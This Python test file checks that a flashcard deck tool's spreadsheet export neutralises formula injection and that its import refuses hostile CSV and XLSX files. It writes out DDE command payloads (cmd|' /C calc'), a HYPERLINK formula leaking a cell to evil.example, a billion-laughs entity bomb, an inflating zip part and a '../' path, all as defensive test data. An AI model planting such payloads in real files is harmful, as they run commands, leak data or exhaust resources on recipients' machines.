"""Sheets from outside: formula injection, and files built to cost minutes or gigabytes.

Every hostile file is built here, small; each must give one located error and exit 1.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from deckfactory import VALID_CARDS
from deckctl.sheet import limits, xlsxparts
from deckctl.sheet.export import export_sheet
from deckctl.sheet.formulas import neutralise, neutralise_inside, restore, restore_inside
from deckctl.sheet.merge import merge_sheet

# Texts a spreadsheet would run as formulas, and texts whose leading apostrophe must survive.
HOSTILE = {
    "spider-legs": ("front", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    "first-letters": ("front", "+1+cmd|' /C calc'!A0"),
    "sky-colour": ("front", "-2+3+cmd|' /C calc'!A0"),
    "insect-legs": ("front", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "grass-colour": ("front", "'=A1' is a formula."),
    "last-letters": ("back", "'quoted"),
    "snow-colour": ("back", "\t=1+1"),
}
# The CSV cell each is written as, where it is not the text with one apostrophe before it (an
# XLSX cell is never split at a tab: there it is).
WRITTEN = {"snow-colour": "'\t'=1+1"}
# Texts that are formulas where a program splits them: at `;` (Excel and LibreOffice where the
# decimal separator is a comma), at a tab, or at a line break (where the text's quotes are not at
# a cell's start, so the line break ends the row).
SPLIT = {
    "spider-legs": ("front", "Canberra;=cmd|' /C calc'!A0;x"),
    "first-letters": ("back", "Iron\n=1+2\n@SUM(1)"),
    "sky-colour": ("front", "Black,=3+4\t-5+6"),
    "insect-legs": ("back", 'a; ""=1+1"'),
    "grass-colour": ("front", "x;'already;'=y"),
}
FORMULA = ("=", "+", "-", "@")
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _hostile_deck(make_deck, texts: dict = HOSTILE) -> Path:
    cards = VALID_CARDS["knowledge"]
    for card_id, (key, text) in texts.items():
        head, rest = cards.split(f"- id: {card_id}\n", 1)
        line = next(line for line in rest.split("\n") if line.startswith(f"  {key}: "))
        rest = rest.replace(line, f"  {key}: {_quoted(text)}", 1)
        cards = f"{head}- id: {card_id}\n{rest}"
    cards = cards.replace("  value: [D, E]\n", "  value: [D, E]\n  accept: [\"=x\", \"'y\", z]\n")
    return make_deck("knowledge", cards)


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\n", "\\n") + '"'


def _snapshot(deck: Path) -> dict[str, bytes]:
    return {p.relative_to(deck).as_posix(): p.read_bytes() for p in sorted(deck.rglob("*")) if p.is_file()}


# --- formula injection ------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'", "''", "'=A1'", "'90s", " =1", "a=1",
                                  "", "plain", "1.10", "  'x", "a;=1", "a,-1", "a\n@x", "a\r\n+1", "a\t=1", "a; =1",
                                  'a;""=1', "a;'=1", "a;'", "\t=1", " \n=1", "a,,=1", "Two, the abdomen"])
def test_neutralise_is_undone_by_restore(text):
    assert restore(neutralise(text)) == text
    cell = neutralise(text)
    assert not cell.lstrip().startswith(FORMULA) and not cell.startswith(("\t", "\r"))
    # A CSV field: nor where a program splits it at another separator, or a line break.
    field = neutralise_inside(cell)
    assert restore(restore_inside(field)) == text
    assert not any(piece.lstrip().lstrip('"').lstrip().startswith(FORMULA) for piece in re.split("[,;\t\r\n]", field))


def test_texts_without_a_formula_after_a_separator_are_written_as_they_are():
    for text in ("Two, the cephalothorax and the abdomen.", "https://a.example/x; https://b.example/y", "a\nb"):
        assert neutralise_inside(neutralise(text)) is text and restore(restore_inside(text)) is text


def test_an_xlsx_cell_keeps_a_dash_after_a_comma_or_a_line_break_as_typed(make_deck, tmp_path):
    # (an XLSX cell is never split: only a CSV needs the apostrophe inside a text)
    deck = _hostile_deck(make_deck, {"spider-legs": ("front", "Lows, -40 degrees"),
                                     "first-letters": ("back", "Three:\n- one\n- two")})
    sheet = tmp_path / "deck.xlsx"
    assert export_sheet(deck, sheet) == []
    cards = openpyxl.load_workbook(sheet)["cards"]
    values = {cell.value for row in cards.iter_rows(min_row=2) for cell in row}
    assert {"Lows, -40 degrees", "Three:\n- one\n- two"} <= values
    result = merge_sheet(sheet, deck)
    assert result.ok and result.changed == [], result.diagnostics


def test_csv_export_escapes_formulas_and_the_import_gives_every_text_back(make_deck, tmp_path):
    deck = _hostile_deck(make_deck)
    before = _snapshot(deck)
    sheet = tmp_path / "deck.csv"
    assert export_sheet(deck, sheet) == []
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = {row["id"]: row for row in rows}
    for card_id, (key, text) in HOSTILE.items():
        assert cells[card_id][key] == WRITTEN.get(card_id, "'" + text)
    assert cells["last-letters"]["accept"] == "'=x | ''y | z"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    result = merge_sheet(sheet, deck)
    assert result.ok and (result.texts, result.changed) == ({}, []), result.diagnostics
    assert _snapshot(deck) == before


def test_xlsx_export_writes_texts_never_formulas_and_the_import_gives_every_text_back(make_deck, tmp_path):
    deck = _hostile_deck(make_deck)
    before = _snapshot(deck)
    sheet = tmp_path / "deck.xlsx"
    assert export_sheet(deck, sheet) == []
    with zipfile.ZipFile(sheet) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    cards = openpyxl.load_workbook(sheet)["cards"]
    headers = [c.value for c in cards[1]]
    by_id = {row[0].value: row for row in cards.iter_rows(min_row=2)}
    for card_id, (key, text) in HOSTILE.items():
        cell = by_id[card_id][headers.index(key)]
        assert (cell.data_type, cell.value) == ("s", "'" + text)
    result = merge_sheet(sheet, deck)
    assert result.ok and (result.texts, result.changed) == ({}, []), result.diagnostics
    assert _snapshot(deck) == before


@pytest.mark.parametrize(("separator", "split_off"), [(";", "'=cmd|' /C calc'!A0"), ("\t", "'-5+6")])
def test_a_csv_split_at_another_separator_holds_no_formula_and_imports_back(make_deck, tmp_path, separator, split_off):
    deck = _hostile_deck(make_deck, SPLIT)
    before = _snapshot(deck)
    sheet = tmp_path / "deck.csv"
    assert export_sheet(deck, sheet) == []
    text = sheet.read_text("utf-8-sig")
    # As a program reads it with that separator (quotes count only at a cell's start): no cell,
    # the rows' records included, starts with a formula, after any spaces or quotes.
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    assert any(c.startswith(split_off) for c in cells) and "'=1+2" in cells  # (a line break in a text ended a row)
    assert [c for c in cells if c.lstrip().lstrip('"').lstrip().startswith(FORMULA)] == []
    # Read with the right one, every field holding a separator is one quoted cell.
    assert '"Canberra;\'=cmd|\' /C calc\'!A0;x"' in text and '"Black,\'=3+4\t\'-5+6"' in text
    result = merge_sheet(sheet, deck)
    assert result.ok and (result.texts, result.changed) == ({}, []), result.diagnostics
    assert _snapshot(deck) == before


def test_an_edited_text_starting_with_an_apostrophe_is_written_as_typed(make_deck, tmp_path):
    deck = make_deck("knowledge")
    sheet = tmp_path / "deck.csv"
    export_sheet(deck, sheet)
    # (the first one: the row's record holds the text too, and is no cell to edit)
    text = sheet.read_text("utf-8-sig").replace("Two, the cephalothorax", "''Two, the cephalothorax", 1)
    sheet.write_text(text, "utf-8")
    result = merge_sheet(sheet, deck)
    assert result.ok and result.changed == ["spider-legs"]
    [new] = result.texts.values()
    assert "back: \"'Two, the cephalothorax and the abdomen.\"" in new or \
        "back: '''Two, the cephalothorax and the abdomen.'" in new


# --- CSV limits -------------------------------------------------------------------------------


def _csv(make_deck, tmp_path) -> tuple[Path, Path, list[list[str]]]:
    deck = make_deck("knowledge")
    sheet = tmp_path / "deck.csv"
    export_sheet(deck, sheet)
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        return deck, sheet, list(csv.reader(handle))


def _write_csv(sheet: Path, rows: list[list[str]]) -> None:
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def _only_error(result):
    [error] = [d for d in result.diagnostics if d.is_error]
    return error


def test_a_csv_larger_than_the_limit_is_refused_before_it_is_parsed(make_deck, tmp_path, cli):
    deck, sheet, _ = _csv(make_deck, tmp_path)
    sheet.write_bytes(b"id\n" + b"a," * (limits.MAX_FILE_BYTES // 2))
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and "deck.csv: error: the file is" in run.stdout and "[file-too-large]" in run.stdout


def test_csv_rows_columns_and_cells_beyond_the_limits(make_deck, tmp_path):
    deck, sheet, rows = _csv(make_deck, tmp_path)
    _write_csv(sheet, rows + [[f"extra-{i}"] for i in range(limits.MAX_ROWS)])
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.line, error.col) == ("too-many-rows", limits.MAX_ROWS + 1, 1)

    _write_csv(sheet, rows[:2] + [rows[2] + [""] * limits.MAX_COLUMNS] + rows[3:])
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.line, error.col) == ("too-many-columns", 3, limits.MAX_COLUMNS + 1)

    # Longer than the csv module's own limit (128 KB) too: still this cell, not a syntax error.
    for size in (limits.MAX_CELL_CHARS + 1, 200_000):
        long = [row[:] for row in rows]
        long[4][3] = "x" * size
        _write_csv(sheet, long)
        error = _only_error(merge_sheet(sheet, deck))
        assert (error.code, error.line, error.col, error.card_id) == ("cell-too-long", 5, 4, long[4][0])
    assert csv.field_size_limit() == 131_072  # the csv module's limit is put back


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x07", "\x7f", "\x9b"])
def test_a_control_character_in_a_csv_cell_is_located(make_deck, tmp_path, cli, char):
    deck, sheet, rows = _csv(make_deck, tmp_path)
    rows[3][2] = f"Colour{char}[2J of the sky"
    _write_csv(sheet, rows)
    before = _snapshot(deck)
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and run.exception is None
    assert f"deck.csv:4:3: error: card `{rows[3][0]}`: the cell holds the control character U+{ord(char):04X}" in run.stdout
    assert "[control-character]" in run.stdout and "\x1b" not in run.stdout
    assert _snapshot(deck) == before


def test_a_utf16_csv_is_named_as_such(make_deck, tmp_path):
    deck, sheet, rows = _csv(make_deck, tmp_path)
    sheet.write_bytes("\n".join(",".join(row[:3]) for row in rows).encode("utf-16-le"))
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.line, error.col) == ("control-character", 1, 1) and "UTF-16" in error.hint
    sheet.write_bytes("\n".join(",".join(row[:3]) for row in rows).encode("utf-16"))  # with its BOM, FF FE
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.line, error.col) == ("not-utf8", 1, 1) and "looks like UTF-16" in error.hint


def test_a_nul_byte_in_a_utf8_csv_is_not_called_utf16(make_deck, tmp_path):
    deck, sheet, rows = _csv(make_deck, tmp_path)
    rows[3][2] = "Colour\x00 of the sky"
    _write_csv(sheet, rows)
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.line, error.col, error.card_id) == ("control-character", 4, 3, rows[3][0])
    assert "UTF-16" not in error.hint and "a NUL byte is no text" in error.hint


def test_a_byte_that_is_not_utf8_is_placed_at_its_cell(make_deck, tmp_path, cli):
    deck, sheet, rows = _csv(make_deck, tmp_path)
    _write_csv(sheet, rows)
    data = sheet.read_bytes().split(b"\r\n")
    cells = data[4].split(b",")
    cells[2] = cells[2][:3] + b"\xe9" + cells[2][3:]  # a Latin-1 letter
    data[4] = b",".join(cells)
    sheet.write_bytes(b"\r\n".join(data))
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.line, error.col, error.card_id) == ("not-utf8", 5, 3, rows[4][0])
    assert error.message == "the file is not UTF-8 (byte 0xe9)"
    data[4] = b'"' + data[4]  # and where the CSV cannot be split into cells: its line and character
    sheet.write_bytes(b"\r\n".join(data))
    error = _only_error(merge_sheet(sheet, deck))
    column = len(data[4][:data[4].index(b"\xe9")].decode("utf-8")) + 1
    assert (error.code, error.line, error.col) == ("not-utf8", 5, column) and column > 1


# --- XLSX limits ------------------------------------------------------------------------------


def _xlsx(make_deck, tmp_path) -> tuple[Path, Path]:
    deck = make_deck("knowledge")
    sheet = tmp_path / "deck.xlsx"
    export_sheet(deck, sheet)
    return deck, sheet


def _rebuild(sheet: Path, parts: dict[str, bytes | str | None]) -> None:
    """The workbook with parts replaced (None: left out) or added."""
    with zipfile.ZipFile(sheet) as archive:
        old = {name: archive.read(name) for name in archive.namelist()}
    for name, data in parts.items():
        if data is None:
            old.pop(name, None)
        else:
            old[name] = data.encode() if isinstance(data, str) else data
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in old.items():
            archive.writestr(name, data)
    sheet.write_bytes(out.getvalue())


def _worksheet(sheet_data: str, dimension: str = "") -> str:
    dimension = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f"<worksheet {NS}>{dimension}<sheetData>{sheet_data}</sheetData></worksheet>"


HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def _with_shared_strings(sheet: Path, strings: str) -> None:
    with zipfile.ZipFile(sheet) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace("</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/></Types>')
    _rebuild(sheet, {"[Content_Types].xml": types, "xl/sharedStrings.xml": strings})


@pytest.mark.parametrize("dimension", ["A1:XFD1048576", ""])
def test_one_cell_at_the_end_of_the_sheet_is_refused_at_that_cell(make_deck, tmp_path, cli, dimension):
    deck, sheet = _xlsx(make_deck, tmp_path)
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + far, dimension)})
    assert sheet.stat().st_size < 10_000
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and run.exception is None
    code = "too-many-rows"
    assert f"deck.xlsx!XFD1048576: error: the sheet `cards` is too large" in run.stdout and f"[{code}]" in run.stdout


def test_rows_and_cells_without_positions_are_counted(make_deck, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    deck, sheet = _xlsx(make_deck, tmp_path)
    wide = "<row>" + "<c><v>1</v></c>" * (limits.MAX_COLUMNS + 1) + "</row>"
    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + wide)})
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.file) == ("too-many-columns", "deck.xlsx!BM2")
    # The same cell a million times over is still a million cells in one row.
    same = '<row r="2">' + '<c r="A2"><v>1</v></c>' * (limits.MAX_COLUMNS + 1) + "</row>"
    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + same)})
    assert _only_error(merge_sheet(sheet, deck)).code == "too-many-columns"
    rows = "<row><c><v>1</v></c></row>" * limits.MAX_ROWS
    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + rows)})
    error = _only_error(merge_sheet(sheet, deck))
    assert (error.code, error.file) == ("too-many-rows", f"deck.xlsx!A{limits.MAX_ROWS + 1}")


def test_too_many_shared_strings_are_refused_before_openpyxl_reads_them(make_deck, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    deck, sheet = _xlsx(make_deck, tmp_path)
    _with_shared_strings(sheet, f"<sst {NS}>" + "<si><t>a</t></si>" * (xlsxparts.MAX_SHARED_STRINGS + 1) + "</sst>")
    error = _only_error(merge_sheet(sheet, deck))
    assert error.code == "sheet-too-large" and "shared strings" in error.message and error.file == "deck.xlsx"


def test_a_part_that_inflates_beyond_the_limit_is_refused_from_the_zip_directory(make_deck, tmp_path):
    deck, sheet = _xlsx(make_deck, tmp_path)
    _with_shared_strings(sheet, b" " * (xlsxparts.MAX_PART_BYTES + 1))
    assert sheet.stat().st_size < 100_000
    error = _only_error(merge_sheet(sheet, deck))
    assert error.code == "sheet-too-large" and "xl/sharedStrings.xml inflates to" in error.message


def _styles(sheet: Path, formats: int = 0) -> str:
    """The workbook's stylesheet, without its XML declaration, with `formats` more cell formats."""
    with zipfile.ZipFile(sheet) as archive:
        styles = archive.read("xl/styles.xml").decode()
    return re.sub(r"^<\?xml[^>]*\?>", "", styles).replace("</cellXfs>", "<xf/>" * formats + "</cellXfs>")


# A stylesheet as an XML parser reads it: libxml2 (openpyxl's, for most parts) and expat tell
# UTF-16 from its first bytes, with or without a byte order mark, and take white space before it.
ENCODED = {
    "UTF-8": lambda xml: xml.encode(),
    "UTF-16BE without BOM": lambda xml: ('<?xml version="1.0" encoding="UTF-16"?>' + xml).encode("utf-16-be"),
    "UTF-16LE without BOM": lambda xml: ('<?xml version="1.0" encoding="UTF-16"?>' + xml).encode("utf-16-le"),
    "UTF-16 with BOM": lambda xml: ('<?xml version="1.0" encoding="UTF-16"?>' + xml).encode("utf-16"),
    "UTF-16BE, white space first": lambda xml: ("\n" * 40 + xml).encode("utf-16-be"),  # expat only (worksheets)
    "UTF-8, 100 KB of white space first": lambda xml: (" " * 100_000 + xml).encode(),
}


@pytest.mark.parametrize("encoding", ENCODED)
def test_a_stylesheet_of_many_formats_is_refused_whatever_its_encoding(make_deck, tmp_path, encoding):
    deck, sheet = _xlsx(make_deck, tmp_path)
    _rebuild(sheet, {"xl/styles.xml": ENCODED[encoding](_styles(sheet, xlsxparts.MAX_PART_ELEMENTS))})
    error = _only_error(merge_sheet(sheet, deck))
    assert error.code == "sheet-too-large" and "the part xl/styles.xml has more elements" in error.message


@pytest.mark.parametrize("encoding", [name for name in ENCODED if name != "UTF-16BE, white space first"])
def test_a_stylesheet_within_the_limits_is_read_whatever_its_encoding(make_deck, tmp_path, encoding):
    deck, sheet = _xlsx(make_deck, tmp_path)
    _rebuild(sheet, {"xl/styles.xml": ENCODED[encoding](_styles(sheet)),
                     # printer settings (not XML) start with the printer's name in UTF-16LE
                     "xl/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le") + bytes(200)})
    result = merge_sheet(sheet, deck)
    assert result.ok, result.diagnostics


@pytest.mark.parametrize("styles, named", [
    (lambda xml: xml.encode("utf-32-be"), "UTF-32"),
    (lambda xml: xml.encode("utf-32"), "UTF-32"),
    (lambda xml: ('<?xml version="1.0" encoding="UTF-7"?>' + xml).encode("utf-7"),
     "the encoding its XML declaration names (multi-byte encodings are not supported)"),
    (lambda xml: ('<?xml version="1.0" encoding="x-none"?>' + xml).encode(),
     "the encoding its XML declaration names (unknown encoding: x-none)"),
], ids=["UTF-32BE", "UTF-32 with BOM", "UTF-7", "unknown"])
def test_a_part_in_an_encoding_expat_cannot_read_is_refused(make_deck, tmp_path, cli, styles, named):
    """libxml2 reads UTF-32 and UTF-7, whose elements expat could not count: refused, not skipped."""
    deck, sheet = _xlsx(make_deck, tmp_path)
    _rebuild(sheet, {"xl/styles.xml": styles(_styles(sheet))})
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and run.exception is None, run.stdout
    assert f"deck.xlsx: error: the part xl/styles.xml is XML in {named}; deckctl reads XLSX parts in UTF-8 or " \
        "UTF-16" in run.stdout and "[not-xlsx]" in run.stdout


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
          + "]>")


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_billion_laughs_are_refused_without_expanding(make_deck, tmp_path, cli, part):
    deck, sheet = _xlsx(make_deck, tmp_path)
    _with_shared_strings(sheet, f"<sst {NS}><si><t>x</t></si></sst>")
    with zipfile.ZipFile(sheet) as archive:
        xml = archive.read(part).decode()
    xml = re.sub(r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + LAUGHS, xml, count=1)
    used = {"xl/sharedStrings.xml": "<t>x</t>", "xl/workbook.xml": 'name="cards"', "xl/worksheets/sheet1.xml": "<t>id</t>"}
    assert used[part] in xml
    xml = xml.replace(used[part], used[part].replace("x", "&lol9;").replace("cards", "&lol9;").replace("id", "&lol9;"))
    _rebuild(sheet, {part: xml})
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and run.exception is None
    assert f"deck.xlsx: error: the part {part} declares a DTD" in run.stdout and "[xml-entities]" in run.stdout


def test_an_undefined_entity_is_an_error_not_a_traceback(make_deck, tmp_path, cli):
    deck, sheet = _xlsx(make_deck, tmp_path)
    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t>'
                                                            "</is></c></row>")})
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and run.exception is None
    assert "deck.xlsx: error: the part xl/worksheets/sheet1.xml is not well-formed XML (undefined entity" in run.stdout


def test_a_workbook_without_sheets_is_an_error(make_deck, tmp_path, cli):
    deck, sheet = _xlsx(make_deck, tmp_path)
    with zipfile.ZipFile(sheet) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
    _rebuild(sheet, {"xl/workbook.xml": re.sub(r"<sheets>.*</sheets>", "<sheets/>", workbook)})
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and run.exception is None
    assert "deck.xlsx: error: the workbook has no worksheet" in run.stdout


def test_a_control_character_in_an_xlsx_cell_is_located(make_deck, tmp_path, cli):
    deck, sheet = _xlsx(make_deck, tmp_path)
    book = openpyxl.load_workbook(sheet)
    book["cards"]["C3"] = "The colour\x9b2J of the sky"  # C1 CSI: legal in XML, acted on by terminals
    book.save(sheet)
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    card_id = book["cards"]["A3"].value
    assert run.exit_code == 1
    assert f"deck.xlsx!C3: error: card `{card_id}`: the cell holds the control character U+009B" in run.stdout


def test_a_formula_without_a_saved_value_is_named_at_its_cell(make_deck, tmp_path, cli):
    """openpyxl writes formulas without computing them (as scripts do): the cell has no value."""
    deck, sheet = _xlsx(make_deck, tmp_path)
    book = openpyxl.load_workbook(sheet)
    book["cards"]["C3"] = '="The colour "&"of the sky"'
    book.save(sheet)
    with zipfile.ZipFile(sheet) as archive:
        assert re.search(rb'<c r="C3"[^>]*><f>[^<]+</f><v\s*/?>(</v>)?</c>', archive.read("xl/worksheets/sheet1.xml"))
    before = _snapshot(deck)
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    card_id = book["cards"]["A3"].value
    assert run.exit_code == 1
    assert (f"deck.xlsx!C3: error: card `{card_id}`: the cell holds a formula without a saved value" in run.stdout)
    assert "open the sheet in a spreadsheet program and save it" in run.stdout and "missing" not in run.stdout
    assert "[formula-without-value]" in run.stdout and _snapshot(deck) == before


# --- the file column ----------------------------------------------------------------------------


@pytest.mark.parametrize("name, problem", [
    ("cards/.hidden.yaml", "a name starting with a dot is a hidden file, which the deck does not read"),
    (".hidden.yaml", "a name starting with a dot is a hidden file, which the deck does not read"),
    ("cards/a\nb.yaml", "it holds a control character (a line break, a tab)"),
    ("cards/a\tb.yaml", "it holds a control character (a line break, a tab)"),
    ("cards/sub/more.yaml", "card files are `.yaml` files directly in cards/"),
    ("../outside.yaml", "card files are `.yaml` files directly in cards/"),
])
def test_a_file_cell_naming_no_card_file_the_deck_reads_is_located_and_nothing_is_written(
        make_deck, tmp_path, cli, name, problem):
    """A new card put into `cards/.hidden.yaml` would be "added" yet never read by the deck (hidden
    files are not card files), one put into `cards/a<line break>b.yaml` would land in a file no one
    can name: the cell is an error at its place, and no file is written."""
    deck, sheet, rows = _csv(make_deck, tmp_path)
    new = list(rows[1])
    new[0] = "brand-new"
    column = rows[0].index("file")
    new[column] = name
    del new[rows[0].index("exported-from")]
    _write_csv(sheet, [[h for h in rows[0] if h != "exported-from"]] + [r[:-1] for r in rows[1:]] + [new])
    before = _snapshot(deck)
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exit_code == 1 and run.exception is None, run.stdout + run.stderr
    shown = name.replace("\n", "\\n")
    assert (f"deck.csv:{len(rows) + 1}:{column + 1}: error: card `brand-new`: `{shown}` is not a card file of the "
            f"deck: {problem} [bad-file]\n    hint: name a file in cards/, like cards/extra.yaml") in run.stdout
    assert _snapshot(deck) == before and sorted(p.name for p in (deck / "cards").iterdir()) == ["cards.yaml"]


@pytest.mark.parametrize("row, cell", [("²", None), ("٣", None), ("1e3", None), ("-1", None), ("2", "A²"), ("2", "A٣")])
def test_a_position_that_is_no_plain_number_is_refused_in_our_words(make_deck, tmp_path, cli, row, cell):
    """`r="²"` passed str.isdigit and failed int(), which was reported as the part's encoding, in
    Python's words; openpyxl then fails on such a position too (`could not convert string to float`)."""
    deck, sheet = _xlsx(make_deck, tmp_path)
    placed = f' r="{cell}"' if cell else ""
    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + f'<row r="{row}"><c{placed}><v>1</v></c></row>')})
    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
    assert run.exception is None and run.exit_code == 1
    what = "its row 2 has the position" if cell is None else "a cell of its row 2 has the position"
    assert f"deck.xlsx: error: the sheet `cards` cannot be read: {what} `{cell or row}`" in run.stdout, run.stdout
    assert "Error" not in run.stdout and "invalid literal" not in run.stdout
